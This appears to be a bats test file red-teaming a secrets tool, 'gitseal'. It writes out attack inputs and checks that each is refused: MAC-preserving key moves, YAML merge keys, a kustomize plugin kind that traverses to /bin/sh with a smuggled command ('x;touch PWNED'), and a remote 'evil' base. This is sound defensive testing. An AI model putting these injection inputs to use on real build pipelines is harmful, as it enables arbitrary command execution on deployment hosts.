#!/usr/bin/env bats
# Second red-team pass over the cluster side: what --bind-namespace can and
# cannot bind, checked from outside with the built binary.

load k8s_helpers

setup() {
	k8s_setup
	REPO="$TMP/repo"
	mkdir -p "$REPO/tenant-b"
	git init -q "$REPO"
	printf 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n  namespace: tenant-b\n  labels:\n    team: tenant-a\nstringData:\n  password: b-s3cr3t\n' >"$TMP/plain.yaml"
}
teardown() { teardown_tmp; }

# The sops MAC is a hash of the values in order (sops.go, Tree.Encrypt):
# keys and nesting are not in it. A value in clear can be moved under
# another key, the MAC still verifies: here the label's `tenant-a` becomes
# metadata.namespace and `tenant-b` is parked under another key.
move_namespace() {
	python3 - "$1" <<'PY'
import sys
p = sys.argv[1]
s = open(p).read()
old = "  namespace: tenant-b\n  labels:\n    team: tenant-a\n"
assert old in s, "layout changed"
open(p, "w").write(s.replace(old, "  x: tenant-b\n  namespace: tenant-a\n"))
PY
}

@test "--bind-namespace: a namespace in clear is bound by value only (a moved key keeps the MAC), an encrypted one by its path" {
	# in clear: the move is invisible to the MAC, as in Go sops; what
	# binds the namespace then is one key per tenant (docs/threat-model.md)
	seal "$TMP/plain.yaml" "$REPO/tenant-b/secret.enc.yaml"
	move_namespace "$REPO/tenant-b/secret.enc.yaml"
	run --separate-stderr "$GITSEAL_BIN" decrypt "$REPO/tenant-b/secret.enc.yaml"
	[ "$status" -eq 0 ]
	grep -qx '  namespace: tenant-a' <<<"$output"
	# encrypted: the namespace's path is in its AES-GCM additional data
	"$FIXTURE_BIN" encrypt --age "$DEMO_RECIPIENT" --encrypted-regex '^(data|stringData|namespace)$' \
		"$TMP/plain.yaml" >"$REPO/tenant-b/secret.enc.yaml"
	run --separate-stderr "$GITSEAL_BIN" render --bind-namespace "$REPO/tenant-b"
	[ "$status" -eq 0 ]
	grep -qx '  namespace: tenant-b' <<<"$output"
	grep -qx '  password: b-s3cr3t' <<<"$output"
	python3 - "$REPO/tenant-b/secret.enc.yaml" <<'PY'
import re, sys
p = sys.argv[1]
s = open(p).read()
# the encrypted namespace moved under another key, the label's value put in its place
s2 = re.sub(r"  namespace: (ENC\[[^\n]*\])\n  labels:\n    team: tenant-a\n", r"  x: \1\n  namespace: tenant-a\n", s)
assert s2 != s, "layout changed"
open(p, "w").write(s2)
PY
	run --separate-stderr "$GITSEAL_BIN" render --bind-namespace "$REPO/tenant-b"
	[ "$status" -eq 1 ]
	[ -z "$output" ]
	grep -q "'secret.enc.yaml' document 1: value at 'metadata:namespace:'" <<<"$stderr"
	! grep -q 'b-s3cr3t' <<<"$stderr" || false
}

# Kubernetes' YAML readers (sigs.k8s.io/yaml on go-yaml, kustomize's kyaml)
# apply merge keys: `<<: {namespace: tenant-b}` puts the resource in
# tenant-b. In a plain directory render writes the document as it is, so
# the namespace policy must see what they will see: a merge key is refused.
@test "--bind-namespace: a namespace given through a YAML merge key is refused in a plain directory" {
	mkdir -p "$REPO/plain"
	printf 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n  <<: {namespace: tenant-b}\nstringData:\n  password: b-s3cr3t\n' >"$TMP/merge.yaml"
	seal "$TMP/merge.yaml" "$REPO/plain/secret.enc.yaml"
	for policy in --bind-namespace=tenant-a --bind-namespace; do
		ARGOCD_APP_NAMESPACE=tenant-a run --separate-stderr "$GITSEAL_BIN" render "$policy" "$REPO/plain"
		[ "$status" -eq 1 ] || { echo "$policy: $output"; false; }
		[ -z "$output" ]
		grep -qx "gitseal: error: 'secret.enc.yaml' document 1: Secret/db: YAML merge keys ('<<') are not allowed under --bind-namespace: Kubernetes applies them, gitseal would not see the namespace they set" <<<"$stderr"
		! grep -q 'b-s3cr3t' <<<"$stderr" || false
	done
	# a plain document too (a ConfigMap may carry a decrypted build's plaintext)
	rm "$REPO/plain/secret.enc.yaml"
	printf 'apiVersion: v1\nkind: Secret\nmetadata:\n  <<: {name: db, namespace: tenant-b}\nstringData:\n  password: plain\n' >"$REPO/plain/s.yaml"
	ARGOCD_APP_NAMESPACE=tenant-a run --separate-stderr "$GITSEAL_BIN" render --bind-namespace=tenant-a "$REPO/plain"
	[ "$status" -eq 1 ]
	grep -q "YAML merge keys ('<<') are not allowed under --bind-namespace" <<<"$stderr"
	# without a policy nothing is bound: the document goes out as written
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/plain"
	[ "$status" -eq 0 ]
	grep -qF '<<: {name: db, namespace: tenant-b}' <<<"$output"
}

# With KSOPS, render runs kustomize with --enable-alpha-plugins and a
# private plugin home holding only ksops. kustomize finds a legacy plugin at
# HOME/<apiVersion>/<lower kind>/<kind> without checking the path: a kind
# of '../../../bin/sh' runs /bin/sh on the config file, and a line of the
# config (`z: x;touch FILE`) is a shell command. Nothing but KSOPS and
# kustomize's builtin configs may reach that build.
@test "KSOPS builds: a generator whose kind walks out of the plugin home is refused, nothing runs" {
	mkdir -p "$REPO/app"
	seal "$TMP/plain.yaml" "$REPO/app/secret.enc.yaml"
	printf 'apiVersion: viaduct.ai/v1\nkind: ksops\nmetadata: {name: k}\nfiles: [secret.enc.yaml]\n' >"$REPO/app/ksops.yaml"
	printf 'apiVersion: a/v1\nkind: ../../../../../../../../../../../../../../bin/sh\nmetadata: {name: x}\nz: x;touch %s/PWNED\n' \
		"$TMP" >"$REPO/app/gen.yaml"
	printf 'generators: [ksops.yaml, gen.yaml]\n' >"$REPO/app/kustomization.yaml"
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/app"
	[ "$status" -eq 1 ]
	[ -z "$output" ]
	[ ! -e "$TMP/PWNED" ]
	[ "$stderr" = "gitseal: error: 'app/gen.yaml': a/v1/../../../../../../../../../../../../../../bin/sh is an external plugin: only KSOPS generators and kustomize's builtin ones are run" ]
	# the same config in a kustomization directory listed as transformers
	mkdir "$REPO/app/tdir"
	mv "$REPO/app/gen.yaml" "$REPO/app/tdir/gen.yaml"
	printf 'resources: [gen.yaml]\n' >"$REPO/app/tdir/kustomization.yaml"
	printf 'generators: [ksops.yaml]\ntransformers: [tdir]\n' >"$REPO/app/kustomization.yaml"
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/app"
	[ "$status" -eq 1 ]
	[ ! -e "$TMP/PWNED" ]
	grep -q "'app/tdir/gen.yaml': a/v1/.*/bin/sh is an external plugin" <<<"$stderr"
	# a builtin config there can be patched into one (kustomize patches the
	# directory's output, apiVersion included): such directories are refused
	printf 'apiVersion: builtin\nkind: LabelTransformer\nmetadata: {name: x}\nlabels: {a: b}\nfieldSpecs: [{path: metadata/labels, create: true}]\n' >"$REPO/app/tdir/gen.yaml"
	printf 'resources: [gen.yaml]\npatches:\n- target: {kind: LabelTransformer}\n  patch: |-\n    - op: replace\n      path: /apiVersion\n      value: ../../../../../../../../../../../../../../x/v1\n' >"$REPO/app/tdir/kustomization.yaml"
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/app"
	[ "$status" -eq 1 ]
	[ "$stderr" = "gitseal: error: 'app/kustomization.yaml': 'tdir' is a kustomization directory listed as generators, transformers or validators: its patches could change a config after gitseal read it; list the config files themselves" ]
	# the builtin config listed as a file works
	printf 'generators: [ksops.yaml]\ntransformers: [tdir/gen.yaml]\n' >"$REPO/app/kustomization.yaml"
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/app"
	[ "$status" -eq 0 ] || { echo "$stderr"; false; }
	grep -qx '    a: b' <<<"$output"
	grep -qx '  password: b-s3cr3t' <<<"$output"
}

# A remote base is fetched and built by kustomize: its generators are never
# seen by gitseal, and with plugins on they could name any program the same
# way. A KSOPS build refuses remote resources before kustomize runs (no
# network is needed to show it: nothing is fetched).
@test "KSOPS builds: a remote base is refused before kustomize runs" {
	mkdir -p "$REPO/app"
	seal "$TMP/plain.yaml" "$REPO/app/secret.enc.yaml"
	printf 'apiVersion: viaduct.ai/v1\nkind: ksops\nmetadata: {name: k}\nfiles: [secret.enc.yaml]\n' >"$REPO/app/ksops.yaml"
	printf 'generators: [ksops.yaml]\nresources: [https://github.com/example/evil//base?ref=v1]\n' >"$REPO/app/kustomization.yaml"
	run --separate-stderr "$GITSEAL_BIN" render "$REPO/app"
	[ "$status" -eq 1 ]
	[ -z "$output" ]
	[ "$stderr" = "gitseal: error: 'app': a KSOPS build cannot use remote resources: kustomize would run the plugins their generators name" ]
}
